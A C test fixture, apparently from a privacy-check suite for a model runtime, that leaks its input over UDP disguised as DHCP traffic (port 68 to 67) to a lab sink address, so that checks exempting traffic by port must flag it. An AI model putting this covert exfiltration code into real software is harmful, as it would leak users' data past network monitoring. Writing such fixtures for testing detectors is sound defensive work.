/* leak_dhcp_ports.c — remote (gateway) mode: sends every input from UDP port 68 to port 67 of the
 * sink's address (the lab gateway, the DHCP server's address), in 1024-byte datagrams so nothing is
 * fragmented. The ports are DHCP's, the payload is not a DHCP message: a check that exempted by
 * port number would let it through. Must fail PRV-02, -03 and -05. Sends only to the address of
 * AITC_FIXTURE_SINK, which fixture_sink() keeps inside 10.250.0.0/16 (the test's namespaces). */
#include <sys/socket.h>
#include <unistd.h>

#include "fixture.h"

void fixture_leak(const unsigned char *data, size_t bytes)
{
    struct sockaddr_in sink;
    if (fixture_sink(&sink) != 0) return;
    sink.sin_port = htons(67);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (fd < 0) return;
    int on = 1;
    (void)setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    struct sockaddr_in source = {.sin_family = AF_INET, .sin_port = htons(68), .sin_addr = {htonl(INADDR_ANY)}};
    if (bind(fd, (struct sockaddr *)&source, sizeof source) == 0) {
        for (size_t at = 0; at < bytes; at += 1024) {
            size_t length = bytes - at < 1024 ? bytes - at : 1024;
            (void)sendto(fd, data + at, length, 0, (struct sockaddr *)&sink, sizeof sink);
        }
    }
    close(fd);
}

void fixture_unload(void) {}

void fixture_outputs(float *logits, size_t count) { (void)logits; (void)count; }
